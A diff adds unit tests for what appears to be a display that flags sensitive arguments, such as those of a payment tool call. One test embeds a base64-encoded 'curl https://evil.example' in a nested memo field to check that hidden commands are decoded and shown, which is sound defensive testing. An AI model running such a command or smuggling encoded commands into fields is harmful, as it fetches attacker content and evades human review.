@@ -41,6 +41,18 @@ def test_payee_is_shown_although_it_equals_the_fact() -> None:
     assert other_arguments(subject()) == {"id": "7"}
 
 
+def test_encoded_text_is_read_in_nested_values_too() -> None:
+    encoded = subject(arguments={"memo": {"run": ["Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZQ=="]}}, changes=["memo"])
+    row = next(row for row in argument_rows(encoded) if row.name == "memo")
+    assert row.decoded == (("base64", "curl https://evil.example"),)
+
+
+def test_long_text_does_not_bury_the_other_changes() -> None:
+    arguments = {"amount": 1, "iban": "x", "memo": "m" * 400, "note": "n"}
+    long = subject(arguments=arguments, changes=["amount", "memo", "note"])
+    assert [row.name for row in argument_rows(long)] == ["amount", "iban", "note", "memo"]
+
+
 def test_sensitive_arguments_and_destinations_come_first() -> None:
     assert [row.name for row in argument_rows(subject())] == ["amount", "iban", "memo"]
 
